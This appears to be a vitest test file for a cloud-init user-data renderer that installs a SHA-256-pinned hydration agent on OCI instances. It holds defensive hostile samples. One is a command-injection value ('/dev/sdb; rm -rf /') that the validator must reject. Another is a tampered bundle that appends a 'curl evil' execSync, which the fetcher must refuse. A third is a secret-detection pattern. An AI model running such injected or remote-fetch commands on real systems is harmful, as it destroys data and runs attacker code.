// The cloud-init user data: asserted on its text, its agent config parsed by the agent's own
// parser, and its boot-time fetcher run for real against the OCI test server.
import { execFile, execFileSync } from "child_process";
import * as crypto from "crypto";
import * as fsp from "fs/promises";
import * as path from "path";
import { Readable } from "stream";
import { promisify } from "util";
import * as zlib from "zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { buildAgentBundle } from "../components/hydration/agent/bundle";
import { parseAgentConfig } from "../components/hydration/agent/config";
import { agentObjectKey, encodeUserData, OCI_METADATA_LIMIT_BYTES, renderHydrationUserData, UserDataError, type HydrationUserDataArgs } from "../components/hydration/userdata";
import { OciStore } from "../components/transfer/oci-store";
import { startHydrationFixture, type HydrationFixture } from "./support/hydration-fixture";

const execFileAsync = promisify(execFile);
const ARGS: HydrationUserDataArgs = { region: "eu-frankfurt-1", namespace: "acmens", bucket: "tundra-acme-prod", prefix: "warehouse/", dataDevice: "/dev/oracleoci/oraclevdb" };

interface WriteFile { path: string; content: string; encoding?: string; permissions: string }

function files(userData: string): Map<string, string> {
  const doc = parseYaml(userData) as { write_files: WriteFile[]; runcmd: unknown[] };
  return new Map(doc.write_files.map((f) => [f.path, f.encoding === "gz+b64" ? zlib.gunzipSync(Buffer.from(f.content, "base64")).toString() : f.content]));
}

describe("hydration user data", () => {
  const bundle = buildAgentBundle();
  const userData = renderHydrationUserData(ARGS, bundle);
  const written = files(userData);

  it("is cloud-config that writes the agent config the agent's own parser accepts", () => {
    expect(userData.startsWith("#cloud-config\n")).toBe(true);
    const config = parseAgentConfig(written.get("/etc/tundra/hydration-agent.json")!, "rendered");
    expect(config).toMatchObject({
      region: "eu-frankfurt-1", namespace: "acmens", bucket: "tundra-acme-prod", prefix: "warehouse/",
      controlPrefix: "_tundra/hydration/", dataRoot: "/mnt/tundra", auth: "instance_principal", requireMountPoint: true,
      node: { fromInstanceMetadata: "displayName" },
    });
    const named = parseAgentConfig(files(renderHydrationUserData({ ...ARGS, node: "tundra-acme-prod-0", dataRoot: "/data" }, bundle)).get("/etc/tundra/hydration-agent.json")!);
    expect(named.node).toBe("tundra-acme-prod-0");
    expect(named.dataRoot).toBe("/data");
  });

  it("installs the runtime and pinned packages, fetches the SHA-256-pinned agent, and starts it with systemd", () => {
    const install = written.get("/opt/tundra-hydration/prepare.sh")!;
    expect(install).toContain("dnf -y -q module install nodejs:20/common");
    expect(install).toContain("npm ci --omit=dev --ignore-scripts");
    expect(install).toContain(`node fetch-agent.js '/etc/tundra/hydration-agent.json' '${agentObjectKey("_tundra/hydration/", bundle.sha256)}' '${bundle.sha256}'`);
    expect(crypto.createHash("sha256").update(bundle.script).digest("hex")).toBe(bundle.sha256);

    const lock = JSON.parse(written.get("/opt/tundra-hydration/package-lock.json")!);
    expect(lock.packages[""].dependencies).toEqual(JSON.parse(written.get("/opt/tundra-hydration/package.json")!).dependencies);
    expect(lock.packages["node_modules/oci-common"].version).toBe(require("oci-common/package.json").version);
    for (const [key, entry] of Object.entries(lock.packages as Record<string, { integrity?: string }>)) {
      if (key) expect(entry.integrity, key).toMatch(/^sha512-/);
    }
    expect(written.get("/opt/tundra-hydration/fetch-agent.js")).toBe(bundle.fetchScript);

    const unit = written.get("/etc/systemd/system/tundra-hydration-agent.service")!;
    expect(unit).toContain("ExecStartPre=+/opt/tundra-hydration/prepare.sh");
    expect(unit).toContain("StartLimitIntervalSec=0");
    expect(unit).toContain("ExecStart=/usr/bin/env node --single-threaded-gc /opt/tundra-hydration/agent.js --config /etc/tundra/hydration-agent.json");
    expect(unit).toContain("Restart=always");
    expect(unit).toContain("User=tundra-hydration");
    expect(unit).toContain("ReadWritePaths=/mnt/tundra");
    expect(userData).toContain("[systemctl, enable, --now, tundra-hydration-agent.service]");
    // The scripts parse as bash (syntax only: they need a real node to run).
    expect(() => execFileSync("bash", ["-n"], { input: install })).not.toThrow();
    expect(install).toContain("dev='/dev/oracleoci/oraclevdb'");
    expect(install).toMatch(/if \[ "\$probe" -eq 2 \]; then mkfs\.xfs/);
    expect(install).toContain("chown tundra-hydration: \"$root\"");
    expect(files(renderHydrationUserData({ ...ARGS, dataDevice: undefined }, bundle)).get("/opt/tundra-hydration/prepare.sh")).not.toContain("mkfs");
  });

  it("carries no keys or secrets and authenticates with the instance principal only", () => {
    const everything = [userData, ...written.values()].join("\n");
    expect(everything).not.toMatch(/PRIVATE KEY|ssh_authorized_keys|ssh-rsa|key_file=|fingerprint=|aws_secret|password/i);
    expect(JSON.parse(written.get("/etc/tundra/hydration-agent.json")!).auth).toBe("instance_principal");
  });

  it("fits OCI's 32,000-byte metadata limit, and is deterministic and checkout-independent", () => {
    expect(encodeUserData(userData).length).toBeLessThan(OCI_METADATA_LIMIT_BYTES - 1000);
    expect(renderHydrationUserData(ARGS, buildAgentBundle())).toBe(userData);
    // No absolute path of this checkout in what nodes run: the SHA-256 pin is the same everywhere.
    const root = path.resolve(__dirname, "..");
    for (const text of [userData, bundle.script, bundle.fetchScript]) expect(text).not.toContain(root);
  });

  it("rejects bad settings by name before anything is deployed", () => {
    expect(() => renderHydrationUserData({ ...ARGS, region: "frankfurt" }, bundle)).toThrow(/region: must be an OCI region identifier/);
    expect(() => renderHydrationUserData({ ...ARGS, prefix: "" }, bundle)).toThrow(/controlPrefix: overlaps prefix/);
    expect(() => renderHydrationUserData({ ...ARGS, prefix: "_tundra/" }, bundle)).toThrow(UserDataError);
    expect(() => renderHydrationUserData({ ...ARGS, node: "bad name" }, bundle)).toThrow(/node: must be 1-63 characters/);
    expect(() => renderHydrationUserData({ ...ARGS, dataDevice: "/dev/sdb; rm -rf /" }, bundle)).toThrow(/dataDevice/);
    expect(() => renderHydrationUserData({ ...ARGS, npmRegistry: "http://insecure" }, bundle)).toThrow(/npmRegistry/);
  });
});

describe("agent config parser", () => {
  it("reports every problem at once, by field, and rejects unknown keys", () => {
    let err: Error | undefined;
    try {
      parseAgentConfig(JSON.stringify({ schemaVersion: 1, node: "a b", region: "x", namespace: "", bucket: "b", prefix: "/abs", dataRoot: "rel", pollSeconds: 0, sshKey: "no" }), "/etc/tundra/hydration-agent.json");
    } catch (e) {
      err = e as Error;
    }
    expect(err?.message).toContain("/etc/tundra/hydration-agent.json: invalid hydration agent config");
    for (const field of ["node:", "region:", "namespace:", "prefix:", "dataRoot:", "pollSeconds:", 'Unrecognized key: "sshKey"']) expect(err?.message).toContain(field);
    expect(() => parseAgentConfig("{not json", "cfg")).toThrow(/cfg: invalid hydration agent config:\n  - not valid JSON/);
  });
});

describe("boot-time agent fetch from the bucket", () => {
  let fx: HydrationFixture;
  const bundle = buildAgentBundle();
  const key = agentObjectKey("_tundra/hydration/", bundle.sha256);

  beforeAll(async () => {
    fx = await startHydrationFixture();
  });
  afterAll(() => fx?.close());

  async function runFetcher(sha: string, destination: string) {
    const dir = path.join(fx.dir, "boot");
    await fsp.mkdir(dir, { recursive: true });
    const rendered = files(renderHydrationUserData({ ...ARGS, namespace: fx.namespace, bucket: "tenant-bucket", region: "us-ashburn-1" }, bundle));
    // Same config as rendered, but API-key auth and the test endpoint instead of an instance principal.
    const config = { ...JSON.parse(rendered.get("/etc/tundra/hydration-agent.json")!), auth: { configFile: fx.ociConfigFile }, endpoint: fx.server.endpoint };
    await fsp.writeFile(path.join(dir, "config.json"), JSON.stringify(config));
    await fsp.writeFile(path.join(dir, "fetch-agent.js"), rendered.get("/opt/tundra-hydration/fetch-agent.js")!);
    return execFileAsync(process.execPath, [path.join(dir, "fetch-agent.js"), path.join(dir, "config.json"), key, sha, destination], {
      env: { ...process.env, NODE_PATH: path.resolve(__dirname, "..", "node_modules") },
    });
  }

  it("installs the agent bundle whose SHA-256 the user data pins, and refuses a tampered one", async () => {
    const root = new OciStore({ bucket: "tenant-bucket", namespace: fx.namespace, endpoint: fx.server.endpoint, auth: { kind: "config-file", file: fx.ociConfigFile } });
    const body = Buffer.from(bundle.script);
    await root.put(key, Readable.from([body]), { size: body.length, md5: crypto.createHash("md5").update(body).digest("hex") });
    const destination = path.join(fx.dir, "boot", "agent.js");
    const ok = await runFetcher(bundle.sha256, destination);
    expect(ok.stdout).toContain(`installed agent ${bundle.sha256.slice(0, 12)}`);
    expect(await fsp.readFile(destination, "utf8")).toBe(bundle.script);

    const tampered = Buffer.from(bundle.script + "\nrequire('child_process').execSync('curl evil');");
    await root.put(key, Readable.from([tampered]), { size: tampered.length, md5: crypto.createHash("md5").update(tampered).digest("hex") });
    const other = path.join(fx.dir, "boot", "agent-2.js");
    const refused = await runFetcher(bundle.sha256, other).catch((e) => e);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain("refusing to install it");
    await expect(fsp.access(other)).rejects.toThrow();
  });
});
